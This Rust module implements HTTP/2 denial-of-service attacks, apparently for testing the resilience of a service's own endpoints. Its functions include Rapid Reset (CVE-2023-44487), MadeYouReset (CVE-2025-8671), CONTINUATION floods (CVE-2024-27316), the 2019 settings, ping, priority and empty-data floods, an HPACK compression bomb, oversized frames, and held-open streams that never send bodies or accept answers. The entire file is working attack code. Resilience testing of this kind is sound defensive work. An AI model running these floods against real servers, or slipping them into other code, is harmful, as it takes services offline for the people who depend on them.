//! Frames that cost their sender little.

use anyhow::Result;

use super::{
    attacker::{Attacker, Port, Tls},
    wire::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS,
        WINDOW_UPDATE, data, field, frame, get, hello, post, request, streams,
    },
};

/// A path that is there.
pub(super) fn path(port: Port) -> &'static str {
    match port {
        Port::Agents => "/bbt.report.v1.ReportService/Stream",
        Port::Enrollment => "/bbt.enrollment.v1.EnrollmentService/Hello",
        Port::Console => "/login",
        Port::Admin => "/metrics",
    }
}

/// A connection on which the preface was said.
fn greeted(attacker: &Attacker, settings: &[(u16, u32)]) -> Result<Tls> {
    let mut stream = attacker.http2()?;
    attacker.write(&mut stream, &hello(settings))?;
    Ok(stream)
}

/// The same frames again and again.
fn frames(attacker: &Attacker, bytes: &[u8]) -> Result<()> {
    let mut stream = greeted(attacker, &[])?;
    let times = (16 << 10) / bytes.len() + 1;
    attacker.flood(&mut stream, &bytes.repeat(times))
}

/// The same behind a request that was begun.
fn frames_of_a_stream(attacker: &Attacker, bytes: &[u8]) -> Result<()> {
    let mut stream = greeted(attacker, &[])?;
    attacker.write(&mut stream, &post(1, path(attacker.port)))?;
    let times = (16 << 10) / bytes.len() + 1;
    attacker.flood(&mut stream, &bytes.repeat(times))
}

/// What `of` makes of each stream's number.
fn on_streams(attacker: &Attacker, of: impl Fn(u32) -> Vec<u8>) -> Result<()> {
    let mut stream = greeted(attacker, &[])?;
    for no in streams().take_while(|_| attacker.goes_on()) {
        attacker.write(&mut stream, &of(no))?;
    }
    Ok(())
}

/// CVE-2023-44487.
pub(super) fn rapid_reset(attacker: &Attacker) -> Result<()> {
    let path = path(attacker.port);
    on_streams(attacker, |no| [post(no, path), frame(RST_STREAM, 0, no, &[0, 0, 0, 8])].concat())
}

/// CVE-2025-8671: the other side is made to reset.
pub(super) fn made_to_reset(attacker: &Attacker) -> Result<()> {
    let path = path(attacker.port);
    on_streams(attacker, |no| [post(no, path), frame(WINDOW_UPDATE, 0, no, &[0; 4])].concat())
}

/// CVE-2024-27316: headers that never end.
pub(super) fn continuation(attacker: &Attacker) -> Result<()> {
    let mut stream = greeted(attacker, &[])?;
    attacker.write(&mut stream, &frame(HEADERS, 0, 1, &request("POST", path(attacker.port))))?;
    let more = field("x", &"a".repeat(1_000));
    attacker.flood(&mut stream, &frame(CONTINUATION, 0, 1, &more).repeat(16))
}

/// The same with nothing in them.
pub(super) fn empty_continuation(attacker: &Attacker) -> Result<()> {
    let mut stream = greeted(attacker, &[])?;
    attacker.write(&mut stream, &frame(HEADERS, 0, 1, &request("POST", path(attacker.port))))?;
    attacker.flood(&mut stream, &frame(CONTINUATION, 0, 1, &[]).repeat(1_000))
}

/// CVE-2019-9515.
pub(super) fn settings(attacker: &Attacker) -> Result<()> {
    frames(attacker, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]))
}

/// CVE-2019-9512.
pub(super) fn pings(attacker: &Attacker) -> Result<()> {
    frames(attacker, &frame(PING, 0, 0, &[7; 8]))
}

/// CVE-2019-9513.
pub(super) fn priorities(attacker: &Attacker) -> Result<()> {
    frames(attacker, &frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 9]))
}

/// Frames of no known kind.
pub(super) fn unknown_frames(attacker: &Attacker) -> Result<()> {
    frames(attacker, &frame(0x77, 0xff, 0, &[]))
}

/// Windows opened by a byte each.
pub(super) fn window_updates(attacker: &Attacker) -> Result<()> {
    frames(attacker, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
}

/// CVE-2019-9518.
pub(super) fn empty_data(attacker: &Attacker) -> Result<()> {
    frames_of_a_stream(attacker, &frame(DATA, 0, 1, &[]))
}

/// A byte in each frame.
pub(super) fn small_data(attacker: &Attacker) -> Result<()> {
    frames_of_a_stream(attacker, &frame(DATA, 0, 1, &[0]))
}

/// Frames that are all padding.
pub(super) fn padding(attacker: &Attacker) -> Result<()> {
    let padding = [&[255][..], &[0; 255]].concat();
    frames_of_a_stream(attacker, &frame(DATA, PADDED, 1, &padding))
}

/// CVE-2016-6581: one field of 4,000 bytes in the table, named a thousand times.
pub(super) fn compression_bomb(attacker: &Attacker) -> Result<()> {
    let mut kept = field("x", &"a".repeat(4_000));
    // With incremental indexing, so it becomes the table's first: 62.
    kept[0] = 0x40;
    let block = [request("POST", path(attacker.port)), kept, vec![0x80 | 62; 8_000]].concat();
    on_streams(attacker, |no| frame(HEADERS, END_HEADERS | END_STREAM, no, &block))
}

/// More headers than are taken.
pub(super) fn large_headers(attacker: &Attacker) -> Result<()> {
    let block = [request("GET", path(attacker.port)), field("x", &"a".repeat(12_000))].concat();
    on_streams(attacker, |no| frame(HEADERS, END_HEADERS | END_STREAM, no, &block))
}

/// A frame of 16 MiB, as it says itself.
pub(super) fn giant_frame(attacker: &Attacker) -> Result<()> {
    let mut stream = greeted(attacker, &[])?;
    attacker.write(&mut stream, &[0xff, 0xff, 0xff, HEADERS, END_HEADERS, 0, 0, 0, 1])?;
    attacker.flood(&mut stream, &[0; 16 << 10])
}

/// Requests whose bodies never come, on as many connections as there are.
pub(super) fn bodies_that_never_come(attacker: &Attacker) -> Result<()> {
    let mut held = Vec::new();
    while attacker.goes_on() && held.len() < 40 {
        let mut stream = greeted(attacker, &[])?;
        for no in streams().take(16) {
            attacker.write(&mut stream, &post(no, path(attacker.port)))?;
        }
        held.push(stream);
    }
    attacker.rest();
    Ok(())
}

/// Answers that there is no room for at the other end.
pub(super) fn answers_never_taken(attacker: &Attacker) -> Result<()> {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    let mut held = Vec::new();
    while attacker.goes_on() && held.len() < 40 {
        let mut stream = greeted(attacker, &[(INITIAL_WINDOW_SIZE, 0)])?;
        for no in streams().take(16) {
            attacker.write(&mut stream, &get(no, path(attacker.port)))?;
        }
        held.push(stream);
    }
    attacker.rest();
    Ok(())
}

/// Requests, as many as it can, their answers read.
pub(super) fn requests(attacker: &Attacker) -> Result<()> {
    let mut stream = greeted(attacker, &[])?;
    let path = path(attacker.port);
    for no in streams().take_while(|_| attacker.goes_on()) {
        attacker.write(&mut stream, &[get(no, path), data(0, &[])].concat())?;
        stream.conn.process_new_packets()?;
        let mut answers = [0; 16 << 10];
        // Whatever has come of it.
        let _ = std::io::Read::read(&mut stream, &mut answers);
    }
    Ok(())
}
